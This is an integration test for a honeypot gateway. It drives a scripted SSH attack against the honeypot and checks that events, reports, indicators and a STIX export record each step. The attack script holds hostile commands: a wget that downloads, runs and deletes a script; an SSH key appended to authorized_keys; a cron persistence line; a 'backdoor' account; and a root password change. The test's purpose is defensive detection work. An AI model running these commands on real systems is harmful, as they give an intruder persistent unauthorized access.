/**
 * One scripted attack, told completely and with nothing invented: a password list, commands, files by here-doc, SFTP and download, a file
 * that is run and deleted, a key, a cron line, an account, a changed password, a forward; then another address with that password and that key.
 */
import assert from "node:assert/strict";
import { spawn } from "node:child_process";
import { createHash } from "node:crypto";
import { once } from "node:events";
import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, describe, it } from "node:test";
import { filesCommand } from "../../gateway/commands/files.ts";
import { linksCommand } from "../../gateway/commands/links.ts";
import { reportCommand } from "../../gateway/commands/report.ts";
import { showCommand } from "../../gateway/commands/show.ts";
import type { CowrieEvent } from "../../gateway/events/cowrie-event.ts";
import { clientOptions, eventually, finishedSessions, mitsubako, run, startGateway, withPassword, type Gateway } from "./harness.ts"; // prettier-ignore
import { Heard } from "../commands/heard.ts";
import { Internet } from "./lab/internet.ts";

const POLICY = `
source: { by: network }
auth:
  otherwise: reject
  rules:
    - { name: third time, verdict: accept, afterAttempts: 3 }
evidence: { processes: required, watchFiles: required }
network:
  ports:
    - { ports: "80", egress: limited }
`;
const [ONE, OTHER] = ["127.0.7.1", "127.0.7.2"] as const;
const FETCHED = "#!/bin/sh\necho from afar\n";
const UPLOADED = Buffer.from("\x7fELF uploaded by SFTP \x00\xff");
const PASSWORDS = ["123456", "admin", "dragon"] as const;
const NEW_PASSWORD = "N3w-s3cret";

describe("one attack", () => {
  const stack = new AsyncDisposableStack();
  let gateway: Gateway;
  let internet: Internet;
  let folder: string;
  let key: { readonly line: string; readonly fingerprint: string };
  let typed: readonly string[];
  let sessions: readonly string[];
  before(async () => {
    folder = await mkdtemp(join(tmpdir(), "mitsubako-attack-"));
    stack.defer(() => rm(folder, { recursive: true, force: true }));
    internet = stack.use(await Internet.open({ "x.sh": FETCHED }));
    gateway = stack.use(await startGateway({ policy: POLICY }));
    key = await makeKey(folder);
    typed = attack(internet.url("x.sh"), key.line);
    await guessed(gateway, folder, typed);
    await writeFile(join(folder, "up.bin"), UPLOADED);
    const who = { password: NEW_PASSWORD, from: OTHER, options: ["-o", "BatchMode=no"] };
    const sftp = ["sftp", "-P", String(gateway.port), ...clientOptions(who), "-b", "-", "root@127.0.0.1"];
    const put = await withPassword(who, sftp, { input: `put ${join(folder, "up.bin")} /tmp/.up\n` });
    assert.equal(put.code, 0, `${put.stdout.toString()}${put.stderr.toString()}`);
    // Nothing answers there; who asked gives up.
    const byKey = { from: OTHER, options: ["-i", join(folder, "key"), "-o", "IdentitiesOnly=yes"] };
    const forward = ["-p", String(gateway.port), ...clientOptions(byKey), "-W", "203.0.113.99:25"];
    await run("timeout", ["6", "ssh", ...forward, "root@127.0.0.1"]);
    sessions = await eventually("its sessions, in their order", async () => {
      const found = await finishedSessions(gateway);
      if (found.length < 3) return undefined;
      const rows = await json<{ id: string; started: string }>("sessions", "--json");
      return rows.length < 3
        ? undefined
        : rows.sort((one, two) => (one.started < two.started ? -1 : 1)).map(({ id }) => id);
    });
    for (const session of sessions)
      await eventually(`the capture of ${session}`, async () => {
        const whole = (await json<{ stayed?: unknown }>("show", session, "--json"))[0];
        return whole?.stayed === undefined ? undefined : true;
      });
  });
  after(() => stack.disposeAsync());

  const json = async <T>(...args: string[]): Promise<T[]> => {
    const { stdout } = await mitsubako(gateway, ...args);
    return stdout.toString().split("\n").filter(Boolean).map((line) => JSON.parse(line) as T); // prettier-ignore
  };
  const told = async (...args: string[]) => (await mitsubako(gateway, ...args)).stdout.toString();
  const hash = (content: Buffer | string) => createHash("sha256").update(content).digest("hex");

  it("events: each attempt, each command once and in its order, transfers and the forward", async () => {
    const text = await readFile(join(gateway.data, "events", "mitsubako.json"), "utf8");
    const events = text.split("\n").filter(Boolean).map((line) => JSON.parse(line) as CowrieEvent); // prettier-ignore
    const of = (session: string | undefined, name: string) =>
      events.filter((event) => event.session === session && event.eventid === `cowrie.${name}`);
    assert.deepEqual(
      [...of(sessions[0], "login.failed"), ...of(sessions[0], "login.success")].map(
        (event) => `${String(event["username"])}:${String(event["password"])}`,
      ),
      PASSWORDS.map((password) => `root:${password}`),
    );
    assert.deepEqual(
      of(sessions[0], "command.input").map((event) => event["input"]),
      commandsOf(typed),
    );
    assert.deepEqual(of(sessions[1], "login.success").map((event) => event["password"]), [NEW_PASSWORD]); // prettier-ignore
    const [upload] = of(sessions[1], "session.file_upload");
    assert.deepEqual([upload?.["filename"], upload?.["shasum"]], ["/tmp/.up", hash(UPLOADED)]);
    const [byKey] = of(sessions[2], "login.success");
    assert.equal(byKey?.["password"], undefined);
    assert.ok(byKey?.["fingerprint"] !== undefined);
    const [forward] = of(sessions[2], "direct-tcpip.request");
    assert.deepEqual([forward?.["dst_ip"], forward?.["dst_port"]], ["203.0.113.99", 25]);
    for (const name of ["command.input", "session.file_upload", "direct-tcpip.request"])
      assert.ok(
        events.every((event) => event.eventid !== `cowrie.${name}` || sessions.includes(event.session)),
      );
  });

  it("show: the first session, on a screen and in full", async () => {
    const screen = await told("show", sessions[0] ?? "");
    for (const part of ["got in at attempt 3", "root / dragon", "third time", "uname -a", key.fingerprint])
      assert.ok(screen.includes(part), `${part} is missing in:\n${screen}`);
    assert.ok(screen.split("\n").length <= 50);
    const full = await told("show", sessions[0] ?? "", "--full");
    for (const part of [
      ...[
        "useradd",
        "What the kernel saw",
        "useradd -m -s /bin/bash backdoor\n",
        "A /etc/cron.d/upd",
        "A /root/.ssh/authorized_keys",
        "C /etc/shadow",
        "backdoor",
      ],
      ...["password set: root:N3w-s3cret", "account made: backdoor", internet.url("x.sh")],
    ])
      assert.ok(full.includes(part), `${part} is missing in:\n${full}`);
    const key2 = await told("show", sessions[2] ?? "", "--full");
    for (const part of [
      key.fingerprint,
      "accepted",
      "forward asked to 203.0.113.99:25",
      "denied: tcp 203.0.113.99:25 (bot)",
    ])
      assert.ok(key2.includes(part), `${part} is missing in:\n${key2}`);
  });

  it("files: what was brought is there to the byte, also what was run and deleted", async () => {
    const changes = await json<{ kind?: string; how?: string; path: string; sha256?: string }>(
      "files",
      "--json",
    );
    const of = (path: string) => changes.find((change) => change.path === path && change.kind !== undefined);
    assert.deepEqual([of("/tmp/.up")?.kind, of("/tmp/.up")?.sha256], ["A", hash(UPLOADED)]);
    assert.equal(of("/tmp/.h.sh")?.sha256, hash("#!/bin/sh\n# by hand\n"));
    for (const path of ["/etc/passwd", "/etc/shadow"]) assert.equal(of(path)?.kind, "C", path);
    const uploaded = await mitsubako(gateway, "files", "get", hash(UPLOADED), "-o", "-");
    assert.deepEqual(uploaded.stdout, UPLOADED);
    const ran = changes.filter(({ path, how }) => path === "/tmp/.x" && how !== undefined);
    assert.ok(ran.some(({ how, sha256 }) => how?.includes("deleted") === true && sha256 === hash(FETCHED)));
    const gone = await mitsubako(gateway, "files", "get", hash(FETCHED), "-o", "-");
    assert.equal(gone.stdout.toString(), FETCHED);
  });

  it("links: the other address came with the key and the password that the first had set", async () => {
    const [linked] = await json<{ links: { source: string; strength: string; reasons: { kind: string }[] }[] }>("links", OTHER, "--json"); // prettier-ignore
    const link = linked?.links.find(({ source }) => source === ONE);
    assert.equal(link?.strength, "strong");
    const kinds = link.reasons.map(({ kind }) => kind);
    assert.equal(kinds[0], "planted-key-used");
    for (const kind of ["changed-password-used", "same-sandbox"])
      assert.ok(kinds.includes(kind), kinds.join());
    assert.match(await told("links", key.fingerprint), /planted[^]*logged in with/);
  });

  it("report and STIX: sums and indicators", async () => {
    const [report] = await json<Record<string, unknown>>("report", "--since", "1h", "--json");
    const totals = report?.["totals"] as Record<string, number>;
    assert.deepEqual(
      [totals["sessions"], totals["sources"], totals["logins"], totals["attempts"], totals["transfers"]],
      [3, 2, 3, 5, 1],
    );
    const indicators = report?.["indicators"] as { kind: string; value: string }[];
    for (const [kind, value] of [
      ["url", internet.url("x.sh")],
      ["ssh-key", key.fingerprint],
      ["password-changed", `root:${NEW_PASSWORD}`],
      ["user-made", "backdoor"],
    ])
      assert.ok(indicators.some((one) => one.kind === kind && one.value === value), `${kind} ${value}`); // prettier-ignore
    assert.match(await told("report", "--since", "1h"), /## Credentials[^]*`root` \| `dragon`/);
    const bundle = JSON.parse(await told("export", "--stix")) as { type: string; objects: unknown[] };
    assert.equal(bundle.type, "bundle");
    assert.ok(JSON.stringify(bundle).includes(internet.url("x.sh")));
  });

  it("what was done is told in each place where it must be", async () => {
    const all = async (...args: string[]) => (await Promise.all(sessions.map((one) => told("show", one, ...args)))).join("\n"); // prettier-ignore
    const places: Readonly<Record<string, string>> = {
      events: await readFile(join(gateway.data, "events", "mitsubako.json"), "utf8"),
      show: await all("--full"),
      json: await all("--json"),
      report: await told("report", "--since", "1h"),
      files: (await told("files", "--json")) + (await told("files", "show", hash(FETCHED))),
      stix: await told("export", "--stix"),
    };
    const done: readonly (readonly [what: string, sign: string, told: string])[] = [
      ["a list of passwords", "dragon", "events show json report"],
      ["a command", "uname -a", "events show json report stix"],
      ["a file by here-doc", hash("#!/bin/sh\n# by hand\n"), "events show json report files stix"],
      ["a file by SFTP", hash(UPLOADED), "events show json report files stix"],
      ["a download", internet.url("x.sh"), "events show json report files stix"],
      ["a file run and deleted", hash(FETCHED), "events show json report files stix"],
      ["a key planted", key.fingerprint, "events show json report stix"],
      ["a cron line", "*/5 * * * * root /tmp/.h.sh", "events show json report stix"],
      ["an account", "backdoor", "events show json report files stix"],
      ["a password set and used", NEW_PASSWORD, "events show json report stix"],
      ["a forward", "203.0.113.99", "events show json report stix"],
    ];
    const table = done.map(([what, sign]) => [what, sign, Object.keys(places).filter((place) => places[place]?.includes(sign)).join(" ")]); // prettier-ignore
    assert.deepEqual(table, done);
  });

  it("nothing is told that was not done", async () => {
    const [whole] = await json<{ files: { by: string; how: string; path: string }[] }>("show", sessions[0] ?? "", "--json"); // prettier-ignore
    assert.deepEqual(
      whole?.files.flatMap(({ by, how, path }) => (by === "shell" ? [`${how} ${path}`] : [])).toSorted(),
      [
        "typed /tmp/.unsaid",
        "written /etc/cron.d/upd",
        "written /tmp/.h.sh",
        "written ~/.ssh/authorized_keys",
      ],
    );
    const text = await readFile(join(gateway.data, "events", "mitsubako.json"), "utf8");
    const uploads = text.split("\n").filter((line) => line.includes('"cowrie.session.file_upload"')).map((line) => (JSON.parse(line) as CowrieEvent)["filename"]); // prettier-ignore
    assert.deepEqual(uploads.toSorted(), ["/etc/cron.d/upd", "/tmp/.h.sh", "/tmp/.up"]);
    const [report] = await json<{ indicators: { kind: string; value: string }[] }>("report", "--since", "1h", "--top", "100", "--json"); // prettier-ignore
    const expected = [
      "address 203.0.113.99",
      `address ${new URL(internet.url("x.sh")).hostname}`,
      "cron */5 * * * * root /tmp/.h.sh",
      `hash ${hash("#!/bin/sh\n# by hand\n")}`,
      `hash ${hash(FETCHED)}`,
      `hash ${hash(UPLOADED)}`,
      `password-changed root:${NEW_PASSWORD}`,
      `ssh-key ${key.fingerprint}`,
      `url ${internet.url("x.sh")}`,
      "user-made backdoor",
    ].toSorted();
    const line = ({ kind, value }: { kind: string; value: string }) => `${kind} ${value}`;
    assert.deepEqual(report?.indicators.map(line).toSorted(), expected);
    // Each place that lists them by itself.
    const listed = await json<{ kind: string; value: string }>("indicators", "--json");
    assert.deepEqual(listed.map(line).toSorted(), expected);
    const shown = await Promise.all(sessions.map((one) => json<{ indicators: { kind: string; value: string }[] }>("show", one, "--json"))); // prettier-ignore
    const ofSessions = new Set(shown.flat().flatMap(({ indicators }) => indicators.map(line)));
    assert.deepEqual([...ofSessions].toSorted(), expected);
    // What the patterns of the bundle look for: also the account, and where they came from.
    const bundle = JSON.parse(await told("export", "--stix")) as { objects: { pattern?: string }[] };
    const soughtFor = bundle.objects.flatMap(({ pattern = "" }) => [...pattern.matchAll(/ = '([^']*)'/g)].map(([, value]) => value)); // prettier-ignore
    const places = expected.flatMap((one) => /^(?:url|address|domain|hash) (.*)/.exec(one)?.[1] ?? []);
    assert.deepEqual(soughtFor.toSorted(), [...places, ONE, OTHER, "backdoor"].toSorted());
    // And wherever text is made: no URL and no address of the Internet but those.
    const texts = [text, await told("report", "--since", "1h"), ...(await Promise.all(sessions.map((one) => told("show", one, "--full"))))]; // prettier-ignore
    const seen = texts.flatMap(
      (one) => one.match(/\bhttps?:\/\/[\w.:/-]+|(?<![\w.])203\.0\.113\.\d+/g) ?? [],
    );
    assert.deepEqual([...new Set(seen)].toSorted(), ["203.0.113.80", "203.0.113.99", internet.url("x.sh")]);
  });

  it("rebuilt, it tells the same", async () => {
    const tell = async () => {
      const { data } = gateway;
      const heard = Array.from({ length: sessions.length + 3 }, () => new Heard());
      const [links, report, files, ...shows] = heard;
      for (const [place, session] of sessions.entries())
        await showCommand(session, { data, json: true }, shows[place]);
      await linksCommand(OTHER, { data, json: true }, links);
      await reportCommand({ data, since: "2020-01-01", until: "2040-01-01", json: true }, report);
      await filesCommand({ data, json: true }, files);
      return heard.map(({ out }) => out);
    };
    await gateway.stop();
    const live = await tell();
    const { code, stderr } = await mitsubako(gateway, "rebuild");
    assert.equal(code, 0, stderr.toString());
    assert.deepEqual(await tell(), live);
  });
});

/** What is typed, a line each. */
function attack(url: string, publicKey: string): string[] {
  return [
    "uname -a",
    "cat /proc/cpuinfo | grep name | wc -l",
    "cat > /tmp/.h.sh <<'EOF'",
    "#!/bin/sh",
    "# by hand",
    "EOF",
    `wget -q ${url} -O /tmp/.x; chmod +x /tmp/.x; /tmp/.x; rm -f /tmp/.x`,
    `mkdir -p ~/.ssh; echo '${publicKey}' >> ~/.ssh/authorized_keys`,
    "echo '*/5 * * * * root /tmp/.h.sh' > /etc/cron.d/upd",
    // Of these nothing comes about.
    "test -e /nothing && echo x > /tmp/.unsaid",
    "false && useradd nobodys",
    "cat > /nothing/there <<< y",
    "useradd -m -s /bin/bash backdoor",
    `echo 'root:${NEW_PASSWORD}' | chpasswd`,
    "exit 0",
  ];
}

/** A here-doc is one command with its lines. */
function commandsOf(lines: readonly string[]): string[] {
  const start = lines.findIndex((line) => line.endsWith("<<'EOF'"));
  const end = lines.indexOf("EOF");
  return [...lines.slice(0, start), lines.slice(start, end + 1).join("\n"), ...lines.slice(end + 1)];
}

/** A client that is asked for a password says the next of the list; then each line is typed when a prompt is there. */
async function guessed(gateway: Gateway, folder: string, lines: readonly string[]): Promise<void> {
  const [list, ask] = [join(folder, "list"), join(folder, "ask")];
  await writeFile(list, PASSWORDS.map((password) => `${password}\n`).join(""));
  await writeFile(ask, `#!/bin/sh\nhead -n 1 ${list}\nsed -i 1d ${list}\n`, { mode: 0o700 });
  const options = ["-tt", "-o", "PubkeyAuthentication=no", "-o", "NumberOfPasswordPrompts=3"];
  const args = ["-p", String(gateway.port), ...clientOptions({ from: ONE, options }), "root@127.0.0.1"];
  const env = { ...process.env, SSH_ASKPASS: ask, SSH_ASKPASS_REQUIRE: "force" };
  const client = spawn("ssh", args, { env, stdio: ["pipe", "pipe", "inherit"] });
  const waiting = [...lines];
  let shown = "";
  client.stdout.setEncoding("latin1").on("data", (text: string) => {
    shown += text;
    // Bash turns bracketed paste on beside its prompt.
    if (!/[#>] $/.test(shown.replaceAll("\x1b[?2004h", ""))) return;
    shown = "";
    const line = waiting.shift();
    if (line !== undefined) client.stdin.write(`${line}\n`);
  });
  const [code] = (await once(client, "close")) as [number | null];
  assert.deepEqual([code, waiting], [0, []]);
}

async function makeKey(folder: string) {
  const path = join(folder, "key");
  const made = await run("ssh-keygen", ["-q", "-t", "ed25519", "-N", "", "-C", "mule@home", "-f", path]);
  assert.equal(made.code, 0, made.stderr.toString());
  const line = (await readFile(`${path}.pub`, "utf8")).trim();
  const { stdout } = await run("ssh-keygen", ["-l", "-f", `${path}.pub`]);
  return { line, fingerprint: stdout.toString().split(" ")[1] ?? "" };
}
